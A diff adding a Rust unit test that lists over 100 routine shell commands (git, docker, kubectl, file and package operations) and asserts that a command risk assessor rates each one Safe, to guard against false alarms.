+        "node index.js",
+        "npx tsc --noEmit",
+        "python3 script.py",
+        "python -m venv .venv",
+        "source .venv/bin/activate",
+        "pip install -r requirements.txt",
+        "pytest -x",
+        "go build ./...",
+        "go test ./...",
+        "make",
+        "make test",
+        "docker ps",
+        "docker ps -a",
+        "docker build -t app .",
+        "docker run -it --rm ubuntu bash",
+        "docker compose up -d",
+        "docker compose down",
+        "docker logs -f web",
+        "docker system df",
+        "kubectl get pods",
+        "kubectl describe pod web-1",
+        "kubectl logs -f deploy/web",
+        "kubectl apply -f deploy.yaml",
+        "kubectl config use-context dev",
+        "terraform init",
+        "terraform plan",
+        "terraform apply",
+        "vim src/main.rs",
+        "nano notes.txt",
+        "code .",
+        "cat README.md",
+        "less /var/log/syslog",
+        "head -n 20 data.csv",
+        "tail -f app.log",
+        "grep -rn TODO src",
+        "rg 'fn main'",
+        "find . -name '*.rs'",
+        "fd main",
+        "echo hello",
+        "mkdir -p a/b/c",
+        "touch file.txt",
+        "cp a.txt b.txt",
+        "cp -r src backup",
+        "mv old.txt new.txt",
+        "rm file.txt",
+        "rm -f *.log",
+        "rmdir empty",
+        "chmod +x script.sh",
+        "chmod 644 file",
+        "chmod 755 bin/tool",
+        "chmod -R u+w build",
+        "chown me:me file",
+        "ssh user@host",
+        "scp file host:/tmp/",
+        "rsync -av src/ dst/",
+        "curl https://example.com",
+        "curl -s https://api.example.com/v1 | jq .",
+        "curl -s https://api.example.com | python3 -m json.tool",
+        "curl -fsSL https://x.io/install.sh -o install.sh",
+        "wget https://example.com/file.tar.gz",
+        "tar -xzf file.tar.gz",
+        "unzip archive.zip",
+        "ps aux | grep node",
+        "top",
+        "htop",
+        "kill 1234",
+        "kill -9 4242",
+        "pkill -f server",
+        "df -h",
+        "du -sh *",
+        "free -m",
+        "uname -a",
+        "whoami",
+        "which python3",
+        "man ls",
+        "sudo apt update",
+        "sudo apt install -y curl",
+        "brew install jq",
+        "systemctl status nginx",
+        "sudo systemctl restart nginx",
+        "journalctl -u nginx -f",
+        "ping -c 3 example.com",
+        "dig example.com",
+        "env | grep PATH",
+        "export PATH=$PATH:~/bin",
+        "alias ll='ls -la'",
+        "tmux attach -t main",
+        "ssh-keygen -t ed25519",
+        "gpg --list-keys",
+        "date",
+        "sort names.txt | uniq -c",
+        "wc -l file",
+        "diff a.txt b.txt",
+        "sed -i 's/foo/bar/g' file",
+        "awk '{print $1}' access.log",
+        "ls | xargs echo",
+        "psql -c 'select 1'",
+        "sqlite3 app.db '.tables'",
+        "redis-cli ping",
+        "mysql -u root -p",
+        "dd if=/dev/zero of=test.img bs=1M count=10",
+        "sudo fdisk -l",
+        "sudo fdisk -l /dev/sda",
+        "lsblk",
+        "mount",
+        "gh pr create --fill",
+        "gh repo clone me/project",
+        "shellcheck script.sh",
+        "sha256sum file.iso",
+        "openssl rand -hex 16",
+        "jq '.items[]' data.json",
+        "watch -n 1 kubectl get pods",
+        "time cargo build",
+        "nohup ./server &",
+        "exec zsh",
+        "sh ./configure",
+        "bash build.sh",
+        "eval \"$(ssh-agent -s)\"",
+        "eval \"$(starship init zsh)\"",
+        "source ~/.zshrc",
+        "echo $SHELL > /tmp/shell.txt",
+        "cat ~/.bashrc",
+        "echo 'alias g=git' >> ~/.zshrc",
+        "systemctl status sshd",
+        "crontab -l",
+        "docker rm web",
+        "docker image ls",
+        "kubectl get ns",
+        "find . -type f -name '*.tmp' -print",
+        "truncate -s 10M disk.img",
+        "npm run publish-docs",
+        "delete-me.sh",
+    ];
+
+    #[test]
+    fn everyday_commands_are_safe() {
+        assert!(EVERYDAY.len() >= 100, "at least 100 everyday commands");
+        let alarms: Vec<_> = EVERYDAY
+            .iter()
+            .filter_map(|cmd| {
+                let a = assess(cmd);
+                (a.level != RiskLevel::Safe).then(|| format!("{cmd:?} -> {:?}", a.rule_ids))
+            })
+            .collect();
+        assert!(alarms.is_empty(), "false alarms:\n{}", alarms.join("\n"));
+    }
+}
